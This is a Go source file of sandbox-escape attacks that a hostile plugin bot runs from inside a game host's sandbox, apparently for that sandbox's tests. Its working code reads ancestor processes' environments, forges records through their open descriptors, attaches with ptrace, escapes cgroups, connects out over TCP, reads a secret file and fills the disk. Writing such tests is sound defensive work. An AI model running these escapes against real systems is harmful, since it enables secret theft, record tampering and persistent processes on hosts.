//go:build linux

// Package attack holds the escapes of issue 23 ("A sandbox for untrusted
// bots"), as a hostile bot author would try them from inside a bot: the
// plugin bot intruder and the kinrow-protocol engine intruderengine run
// one of them, chosen by their attack option, at their first move.
//
// Each attack reports what it achieved in one line on the process's real
// standard error (which the host logs at debug level):
//
//	intruder: NAME: got WHAT        the escape worked (some of it)
//	intruder: NAME: refused: WHY    every attempt failed, with the errors
//
// The attacks:
//
//   - environ: reads /proc/PID/environ of its parent and the parent's
//     ancestors (through /proc/PID/stat), depth= processes in all; counts
//     the variables it does not have itself and prints NAME=VALUE for the
//     names listed in show= (comma-separated). It prints no other values:
//     the processes above the host are the test's, whose environment is
//     not the test's to print.
//   - records: looks through /proc/PID/fd of the same processes for an
//     open file named out= (its base name; default any *.jsonl), opens it
//     again through /proc/PID/fd/N and appends a forged game record (a
//     forfeit win for the intruder, detail "forged by intruder").
//   - ptrace: PTRACE_SEIZE + PTRACE_INTERRUPT of the same processes (the
//     same permission check as PTRACE_ATTACH, without the SIGSTOP that
//     a Go tracee's pending SIGURG could turn into a stop of the whole
//     host), reads the first word of its first mapping with
//     PTRACE_PEEKDATA, and detaches.
//   - cgroup: starts a child (this executable again, argv[1] ChildArg,
//     argv[2] marker=, in a new session, with an empty environment) that
//     writes its pid into the root cgroup.procs of every hierarchy it finds
//     (/sys/fs/cgroup, /sys/fs/cgroup/unified, and the v1 memory, freezer,
//     pids, cpu and cpuacct roots), tells the bot where it went, and
//     sleeps (at most two minutes); a child that left the bot's cgroup
//     outlives the host.
//   - network: connects over TCP to addr= (host:port) and writes a line
//     "intruder was here MARKER".
//   - files: writes intruder-was-here into each directory of dir=
//     (comma-separated host directories) and reads the host file
//     secret=, printing its content (quoted, at most 200 bytes).
//   - fds: lists the descriptors it inherited (those without
//     FD_CLOEXEC: the Go runtime opens all its own close-on-exec) and
//     those open now, each with what /proc/self/fd says it is, and the
//     first 64 bytes of each inherited one past 2 it can read; "got" when
//     it inherited any past 0, 1 and 2.
//   - disk: writes up to DiskBytes into a file named FileName in its
//     plugin socket directory ($PLUGIN_UNIX_SOCKET_DIR: the one directory
//     it was given to write), and reports "got N bytes into DIR", then
//     why it stopped, if it did.
//
// The kernel-surface attacks (keyring, iouring, userns, flock) are
// described in attack_kernel.go.
//
// The processes walked by environ, records and ptrace are the parent and
// its ancestors, depth= of them (default 2: the host and the host's
// parent, in a test the test binary).
package attack

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// Names lists the attacks.
var Names = []string{"environ", "records", "ptrace", "cgroup", "network", "files", "fds",
	"forks", "fill", "disk", "keyring", "iouring", "userns", "flock"}

// Options are an attack's settings, by the names of the bot's options:
// show, out, depth, marker, addr, dir, secret, count; and rules, the rules string
// of the game (for the forged record).
type Options map[string]string

// Stderr is the process's real standard error, taken before go-plugin
// swaps os.Stderr for its own pipe.
var Stderr = os.Stderr

// ForgedMark is in the detail of every record the records attack forges.
const ForgedMark = "forged by intruder"

// ChildArg is argv[1] of the cgroup attack's child.
const ChildArg = "intruder-cgroup-child"

// DiskBytes is the most the disk attack writes: a bounded stand-in for
// filling the host's disk.
const DiskBytes = 64 << 20

// FileName is what the files attack writes in dir=.
const FileName = "intruder-was-here"

// Run performs attack name and returns its report line, "intruder: NAME:
// got ..." or "intruder: NAME: refused: ..."; an unknown name is
// refused.
func Run(name string, o Options) string {
	var got string
	var err error
	switch name {
	case "environ":
		got, err = environ(o)
	case "records":
		got, err = records(o)
	case "ptrace":
		got, err = ptrace(o)
	case "cgroup":
		got, err = cgroup(o)
	case "network":
		got, err = network(o)
	case "files":
		got, err = files(o)
	case "fds":
		got, err = fds()
	case "forks":
		got, err = forks(o)
	case "fill":
		got, err = fill(o)
	case "disk":
		got, err = disk()
	case "keyring":
		got, err = keyring(o)
	case "iouring":
		got, err = iouring()
	case "userns":
		got, err = userns()
	case "flock":
		got, err = flock(o)
	default:
		err = fmt.Errorf("no attack %q: accepted are %s", name, strings.Join(Names, ", "))
	}
	line := "intruder: " + name + ": "
	if got != "" {
		line += "got " + got
	} else {
		line += "refused: " + oneLine(err)
	}
	return line
}

// Report runs attack name and writes its line to the real stderr.
func Report(name string, o Options) string {
	line := Run(name, o)
	fmt.Fprintln(Stderr, line)
	return line
}

// oneLine is err's text on one line.
func oneLine(err error) string {
	if err == nil {
		return "nothing happened"
	}
	return strings.ReplaceAll(err.Error(), "\n", " | ")
}

// depth is how many processes up from the parent the walking attacks go.
func (o Options) depth() int {
	if n, err := strconv.Atoi(o["depth"]); err == nil && n > 0 {
		return n
	}
	return 2
}

// ancestors returns the parent and its ancestors, at most n, nearest
// first; an error when there is no parent in sight.
func ancestors(n int) ([]int, error) {
	pid := os.Getppid()
	if pid <= 0 {
		return nil, fmt.Errorf("no parent in sight: getppid is %d (the parent is outside my pid namespace)", pid)
	}
	var pids []int
	for len(pids) < n && pid > 0 {
		pids = append(pids, pid)
		next, err := ppidOf(pid)
		if err != nil {
			break
		}
		pid = next
	}
	return pids, nil
}

// ppidOf reads process pid's parent from /proc/PID/stat.
func ppidOf(pid int) (int, error) {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
	if err != nil {
		return 0, err
	}
	i := bytes.LastIndexByte(b, ')')
	if i < 0 {
		return 0, fmt.Errorf("/proc/%d/stat: no command name", pid)
	}
	f := strings.Fields(string(b[i+1:]))
	if len(f) < 2 {
		return 0, fmt.Errorf("/proc/%d/stat: too short", pid)
	}
	return strconv.Atoi(f[1])
}

// comm is process pid's command name, or "?".
func comm(pid int) string {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/comm")
	if err != nil {
		return "?"
	}
	return strings.TrimSpace(string(b))
}

// environ: the parent's and ancestors' variables.
func environ(o Options) (string, error) {
	pids, err := ancestors(o.depth())
	if err != nil {
		return "", err
	}
	mine := map[string]bool{}
	for _, kv := range os.Environ() {
		name, _, _ := strings.Cut(kv, "=")
		mine[name] = true
	}
	show := map[string]bool{}
	for _, n := range strings.Split(o["show"], ",") {
		if n = strings.TrimSpace(n); n != "" {
			show[n] = true
		}
	}
	var got []string
	var errs []error
	for _, pid := range pids {
		b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/environ")
		if err != nil {
			errs = append(errs, err)
			continue
		}
		foreign := 0
		var shown []string
		for _, kv := range strings.Split(string(b), "\x00") {
			name, _, ok := strings.Cut(kv, "=")
			if !ok || mine[name] {
				continue
			}
			foreign++
			if show[name] {
				shown = append(shown, kv)
			}
		}
		if foreign == 0 && len(b) == 0 {
			errs = append(errs, fmt.Errorf("/proc/%d/environ: empty", pid))
			continue
		}
		s := fmt.Sprintf("pid %d (%s): %d variables not mine", pid, comm(pid), foreign)
		if len(shown) > 0 {
			s += ": " + strings.Join(shown, " ")
		}
		got = append(got, s)
	}
	return strings.Join(got, "; "), errors.Join(errs...)
}

// records: the host's open records file, found through /proc/PID/fd.
func records(o Options) (string, error) {
	pids, err := ancestors(o.depth())
	if err != nil {
		return "", err
	}
	want := filepath.Base(o["out"])
	match := func(target string) bool {
		if o["out"] == "" {
			return strings.HasSuffix(target, ".jsonl")
		}
		return filepath.Base(target) == want
	}
	var errs []error
	for _, pid := range pids {
		dir := "/proc/" + strconv.Itoa(pid) + "/fd"
		ents, err := os.ReadDir(dir)
		if err != nil {
			errs = append(errs, err)
			continue
		}
		for _, e := range ents {
			link := dir + "/" + e.Name()
			target, err := os.Readlink(link)
			if err != nil || !match(target) {
				continue
			}
			f, err := os.OpenFile(link, os.O_WRONLY|os.O_APPEND, 0)
			if err != nil {
				errs = append(errs, err)
				continue
			}
			_, err = f.Write(forged(o["rules"]))
			f.Close()
			if err != nil {
				errs = append(errs, err)
				continue
			}
			return fmt.Sprintf("appended a forged record to %s through %s", target, link), nil
		}
		errs = append(errs, fmt.Errorf("%s: no open records file", dir))
	}
	return "", errors.Join(errs...)
}

// forged is a record line of a game the intruder never played.
func forged(rules string) []byte {
	if rules == "" {
		rules = "mnk:3x3x3"
	}
	now := time.Now().UTC()
	rec := map[string]any{
		"rules": rules, "players": map[string]string{"x": "intruder", "o": "random"}, "moves": []any{},
		"result": "X+", "reason": "forfeit", "forfeit": "crash", "detail": "o (random) crashed: " + ForgedMark,
		"winner": "intruder", "start": now.Add(-time.Second), "end": now, "round": 1, "game": 1,
	}
	b, _ := json.Marshal(rec)
	return append(b, '\n')
}

// ptrace: seize, interrupt, peek and detach each process.
func ptrace(o Options) (string, error) {
	pids, err := ancestors(o.depth())
	if err != nil {
		return "", err
	}
	// A tracer is a thread: every ptrace call and wait of one tracee from
	// the same one.
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	var got []string
	var errs []error
	for _, pid := range pids {
		s, err := trace(pid)
		if err != nil {
			errs = append(errs, fmt.Errorf("pid %d (%s): %w", pid, comm(pid), err))
			continue
		}
		got = append(got, s)
	}
	return strings.Join(got, "; "), errors.Join(errs...)
}

func trace(pid int) (string, error) {
	if err := unix.PtraceSeize(pid); err != nil {
		return "", fmt.Errorf("PTRACE_SEIZE: %w", err)
	}
	// Detach whatever happens; a tracer that exits detaches too.
	sig := 0
	stopped := false
	defer func() {
		if stopped {
			_, _, _ = unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_DETACH, uintptr(pid), 0, uintptr(sig), 0, 0)
		}
	}()
	if err := unix.PtraceInterrupt(pid); err != nil {
		return "", fmt.Errorf("attached, but PTRACE_INTERRUPT: %w", err)
	}
	var ws unix.WaitStatus
	for end := time.Now().Add(2 * time.Second); ; {
		wpid, err := unix.Wait4(pid, &ws, unix.WALL|unix.WNOHANG, nil)
		if err != nil {
			return "", fmt.Errorf("attached, but wait4: %w", err)
		}
		if wpid == pid && ws.Stopped() {
			stopped = true
			if s := ws.StopSignal(); s != unix.SIGTRAP && ws.TrapCause() <= 0 {
				sig = int(s) // a signal on its way: deliver it on detach
			}
			break
		}
		if time.Now().After(end) {
			return fmt.Sprintf("attached to pid %d (%s) (it did not stop within 2 s)", pid, comm(pid)), nil
		}
		time.Sleep(time.Millisecond)
	}
	s := fmt.Sprintf("attached to pid %d (%s)", pid, comm(pid))
	if addr, ok := firstMapping(pid); ok {
		var word [8]byte
		if n, err := unix.PtracePeekData(pid, addr, word[:]); err == nil && n > 0 {
			s += fmt.Sprintf(", read %x at %#x", word[:n], addr)
		} else {
			s += fmt.Sprintf(", PTRACE_PEEKDATA at %#x: %v", addr, err)
		}
	}
	return s, nil
}

// firstMapping is the start of process pid's first mapping.
func firstMapping(pid int) (uintptr, bool) {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/maps")
	if err != nil {
		return 0, false
	}
	start, _, ok := strings.Cut(string(b), "-")
	if !ok {
		return 0, false
	}
	a, err := strconv.ParseUint(start, 16, 64)
	return uintptr(a), err == nil
}

// cgroupRoots are the root cgroup.procs files the cgroup child tries.
var cgroupRoots = []string{
	"/sys/fs/cgroup/cgroup.procs",
	"/sys/fs/cgroup/unified/cgroup.procs",
	"/sys/fs/cgroup/memory/cgroup.procs",
	"/sys/fs/cgroup/freezer/cgroup.procs",
	"/sys/fs/cgroup/pids/cgroup.procs",
	"/sys/fs/cgroup/cpu/cgroup.procs",
	"/sys/fs/cgroup/cpuacct/cgroup.procs",
}

// cgroup: a child that leaves the bot's cgroups.
func cgroup(o Options) (string, error) {
	marker := o["marker"]
	if marker == "" {
		marker = "intruder-cgroup-child"
	}
	r, w, err := os.Pipe()
	if err != nil {
		return "", err
	}
	defer r.Close()
	cmd := exec.Command("/proc/self/exe", ChildArg, marker)
	cmd.Env = []string{} // no marker of the host's in its environment
	cmd.Stdout = w
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	err = cmd.Start()
	w.Close()
	if err != nil {
		return "", fmt.Errorf("start the child: %w", err)
	}
	// It is never waited for: it is meant to outlive the bot.
	_ = r.SetReadDeadline(time.Now().Add(5 * time.Second))
	out, err := io.ReadAll(io.LimitReader(r, 64<<10))
	if err != nil {
		return "", fmt.Errorf("child %d: %w", cmd.Process.Pid, err)
	}
	var moved, failed []string
	where := ""
	for _, l := range strings.Split(strings.TrimSpace(string(out)), "\n") {
		switch {
		case strings.HasPrefix(l, "moved "):
			moved = append(moved, strings.TrimPrefix(l, "moved "))
		case strings.HasPrefix(l, "failed "):
			failed = append(failed, strings.TrimPrefix(l, "failed "))
		case strings.HasPrefix(l, "cgroup "):
			where = strings.TrimPrefix(l, "cgroup ")
		}
	}
	if len(moved) == 0 {
		return "", fmt.Errorf("child %d (marker %s) stays: %s; its cgroups: %s", cmd.Process.Pid, marker, strings.Join(failed, "; "), where)
	}
	return fmt.Sprintf("child %d (marker %s) moved itself into %s; its cgroups now: %s", cmd.Process.Pid, marker, strings.Join(moved, ", "), where), nil
}

// Child is the cgroup attack's child when this process was started as one
// (argv[1] is ChildArg): it leaves its cgroups, writes what it did on
// stdout, closes it and sleeps at most two minutes, never returning.
// It is the userns attack's child when argv[1] is UsernsChildArg.
// Otherwise it returns at once. Call it first thing in main.
func Child() {
	if len(os.Args) == 2 && os.Args[1] == UsernsChildArg {
		usernsChild()
	}
	if len(os.Args) < 3 || os.Args[1] != ChildArg {
		return
	}
	pid := strconv.Itoa(os.Getpid())
	for _, f := range cgroupRoots {
		// O_WRONLY without O_CREATE: never make a file where there is no
		// cgroup file.
		fh, err := os.OpenFile(f, os.O_WRONLY, 0)
		if err == nil {
			_, err = fh.WriteString(pid)
			if cerr := fh.Close(); err == nil {
				err = cerr
			}
		}
		if err == nil {
			fmt.Printf("moved %s\n", f)
		} else {
			fmt.Printf("failed %v\n", err)
		}
	}
	b, _ := os.ReadFile("/proc/self/cgroup")
	fmt.Printf("cgroup %s\n", strings.Join(strings.Fields(string(b)), " "))
	if null, err := os.OpenFile(os.DevNull, os.O_RDWR, 0); err == nil {
		_ = unix.Dup2(int(null.Fd()), 1)
	}
	os.Stdout.Close()
	time.Sleep(2 * time.Minute)
	os.Exit(0)
}

// network: a TCP connection to addr=.
func network(o Options) (string, error) {
	addr := o["addr"]
	if addr == "" {
		return "", errors.New("no addr= given")
	}
	c, err := net.DialTimeout("tcp", addr, 3*time.Second)
	if err != nil {
		return "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	if _, err := fmt.Fprintf(c, "intruder was here %s\n", o["marker"]); err != nil {
		return "", fmt.Errorf("connected to %s, but write: %w", addr, err)
	}
	return fmt.Sprintf("connected to %s from %s and wrote a line", addr, c.LocalAddr()), nil
}

// files: a file written into dir=, the file secret= read.
func files(o Options) (string, error) {
	var got []string
	var errs []error
	for _, dir := range strings.Split(o["dir"], ",") {
		if dir = strings.TrimSpace(dir); dir == "" {
			continue
		}
		p := filepath.Join(dir, FileName)
		if err := os.WriteFile(p, []byte("intruder was here\n"), 0o644); err != nil {
			errs = append(errs, fmt.Errorf("write: %w", err))
		} else {
			got = append(got, "wrote "+p)
		}
	}
	if secret := o["secret"]; secret != "" {
		b, err := os.ReadFile(secret)
		if err != nil {
			errs = append(errs, fmt.Errorf("read: %w", err))
		} else {
			if len(b) > 200 {
				b = b[:200]
			}
			got = append(got, fmt.Sprintf("read %s: %q", secret, b))
		}
	}
	if len(got) == 0 && len(errs) == 0 {
		errs = append(errs, errors.New("neither dir= nor secret= given"))
	}
	return strings.Join(got, "; "), errors.Join(errs...)
}

// disk: DiskBytes written, or as many as it can, into the socket
// directory.
func disk() (string, error) {
	dir := os.Getenv("PLUGIN_UNIX_SOCKET_DIR")
	if dir == "" {
		return "", errors.New("no socket directory ($PLUGIN_UNIX_SOCKET_DIR is not set)")
	}
	p := filepath.Join(dir, FileName)
	f, err := os.OpenFile(p, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o600)
	if err != nil {
		return "", fmt.Errorf("create: %w", err)
	}
	defer f.Close()
	chunk := bytes.Repeat([]byte("intruder was here\n"), 4096)
	n := 0
	for n < DiskBytes {
		var m int
		m, err = f.Write(chunk[:min(len(chunk), DiskBytes-n)])
		n += m
		if err != nil {
			break
		}
	}
	if n == 0 {
		return "", fmt.Errorf("write: %w", err)
	}
	got := fmt.Sprintf("%d bytes into %s", n, dir)
	if err != nil {
		got += fmt.Sprintf(", then: %v", err)
	}
	return got, nil
}

// fdInfo is one open descriptor: what /proc/self/fd says it is, and
// whether it was inherited (it has no FD_CLOEXEC: the Go runtime opens
// every descriptor of its own close-on-exec, so one without it came
// through execve).
type fdInfo struct {
	target    string
	inherited bool
}

// listFDs reads /proc/self/fd, leaving out the directory's own
// descriptor.
func listFDs() (map[int]fdInfo, error) {
	fd, err := unix.Open("/proc/self/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil, err
	}
	defer unix.Close(fd)
	var names []string
	buf := make([]byte, 8192)
	for {
		n, err := unix.ReadDirent(fd, buf)
		if err != nil || n <= 0 {
			break
		}
		_, _, names = unix.ParseDirent(buf[:n], -1, names)
	}
	out := map[int]fdInfo{}
	for _, name := range names {
		n, err := strconv.Atoi(name)
		if err != nil || n == fd {
			continue
		}
		target, err := os.Readlink("/proc/self/fd/" + name)
		if err != nil {
			target = "?" + err.Error()
		}
		flags, err := unix.FcntlInt(uintptr(n), unix.F_GETFD, 0)
		out[n] = fdInfo{target: target, inherited: err == nil && flags&unix.FD_CLOEXEC == 0}
	}
	return out, nil
}

// formatFDs is fds as "0=/dev/null 1=pipe:[12] ...", in order, those
// keep says.
func formatFDs(fds map[int]fdInfo, keep func(fdInfo) bool) string {
	keys := make([]int, 0, len(fds))
	for k, f := range fds {
		if keep(f) {
			keys = append(keys, k)
		}
	}
	sort.Ints(keys)
	parts := make([]string, len(keys))
	for i, k := range keys {
		parts[i] = strconv.Itoa(k) + "=" + fds[k].target
	}
	return strings.Join(parts, ",")
}

// fds: what the process inherited, what it can read through it, and what
// is open now.
func fds() (string, error) {
	all, err := listFDs()
	if err != nil {
		return "", err
	}
	var extra []string
	keys := make([]int, 0, len(all))
	for n := range all {
		keys = append(keys, n)
	}
	sort.Ints(keys)
	for _, n := range keys {
		f := all[n]
		if n <= 2 || !f.inherited {
			continue
		}
		s := fmt.Sprintf("%d=%s", n, f.target)
		// A file the host left open: read its start without moving its
		// offset.
		var b [64]byte
		if k, err := unix.Pread(n, b[:], 0); err == nil && k > 0 {
			s += fmt.Sprintf(" reads %q", b[:k])
		}
		extra = append(extra, s)
	}
	desc := fmt.Sprintf("inherited=%s open=%s", formatFDs(all, func(f fdInfo) bool { return f.inherited }),
		formatFDs(all, func(fdInfo) bool { return true }))
	if len(extra) > 0 {
		return fmt.Sprintf("%d inherited past 0-2: %s; %s", len(extra), strings.Join(extra, "; "), desc), nil
	}
	return "", errors.New("only 0-2 inherited: " + desc)
}
